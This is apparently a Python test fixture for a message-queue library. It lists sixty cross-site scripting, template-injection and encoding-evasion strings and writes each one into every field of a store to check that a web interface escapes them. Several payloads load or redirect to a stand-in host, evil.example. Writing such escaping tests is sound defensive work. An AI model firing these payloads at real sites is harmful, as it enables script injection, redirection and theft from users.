"""Texts that try to become markup or scripts, and a store that has one of them in every place."""

from __future__ import annotations

from typing import Any, Protocol

from waypost import Waypost
from waypost.identity import Session
from waypost.store.port import Heartbeat, ServedQueue

#: Sixty ways into a page that forgets to escape: elements, attributes, URLs, encodings, templates, control characters.
HOSTILE_TEXTS: tuple[str, ...] = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    '"><script>window.hit=1</script>',
    "'><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "</pre><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    '" onmouseover="window.hit=1',
    "' onfocus='window.hit=1' autofocus='",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "java\nscript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "<iframe src=javascript:window.hit=1>",
    "<object data=javascript:window.hit=1>",
    "<embed src=javascript:window.hit=1>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input type=submit>",
    "<a href=javascript:window.hit=1>x</a>",
    "<body onload=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1>",
    "<audio src=x onerror=window.hit=1>",
    "<marquee onstart=window.hit=1>",
    "<math><mtext><img src=x onerror=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x>",
    "<style>@import'//evil.example'</style>",
    "<div style=background:url(javascript:window.hit=1)>",
    "<template><script>window.hit=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>',
    "<!--><script>window.hit=1</script>",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<?xml <script>window.hit=1</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "＜script＞window.hit=1＜/script＞",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<SCRIPT/SRC=//evil.example>",
    "<script\x0csrc=//evil.example>",
    "<img src=`x` onerror=window.hit=1>",
    "<img/src='x'/onerror=window.hit=1>",
    "{{ ''.__class__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "${window.hit=1}",
    "#{window.hit=1}",
    "{{constructor}}",
    "\u202e<script>window.hit=1</script>",
    "\ufeff<script>window.hit=1</script>",
    "x\x1b[31m<script>window.hit=1</script>",
    "../../s/main?<script>window.hit=1</script>",
    "'; window.hit=1; //",
)


#: How long a worker of a test stays registered.
WORKER_TTL_MS = 600_000


class Prepared(Protocol):
    """What has a client to prepare a store with."""

    post: Waypost


def fill_store(site: Prepared, text: str) -> list[str]:
    """Put a text into every place of a store that takes one; the ids of the messages that have it."""
    post = site.post
    post.configure("orders", lease=3600)  # what runs stays with its worker
    given: Any = {"headers": {"x": text, text[:60]: "x"}, "correlation_id": text}
    ready = post.publish("orders", {"text": text, text: 1}, group=text[:100], key=text, **given)
    dead = post.publish("orders", text, group=text[:100], priority=9, **given)
    with post.receive("orders") as message:
        assert message is not None
        assert message.id == dead.id
        message.dead(text[:60], f"{text}\n{text}")
    later = post.publish("orders", text, delay=3600, key=f"timer {text}", group=text[:100])
    post.save_schedule(text[:100], queue="orders", every=3600, key=f"rollup {text}"[:200], body=text)
    running = post.publish("orders", text, priority=9)
    add_worker(post, text)
    return [ready.id, dead.id, later.id, running.id]


def add_worker(post: Waypost, text: str) -> None:
    """Register a worker whose name and reasons are a text, and let it claim a message."""
    worker = Heartbeat(
        text, text, 1, text[:40], "running", "red", (text,), queues=(ServedQueue("orders", 1, 1, 1, 1),)
    )  # fmt: skip
    executor = post.store.connect(start_timeout=10)
    try:
        session = Session()
        session.time.learn(executor.run(post.store.heartbeat(worker, WORKER_TTL_MS)))
        executor.run(post.store.claim("orders", 1, session.operation("orders"), worker=text))
    finally:
        executor.close()
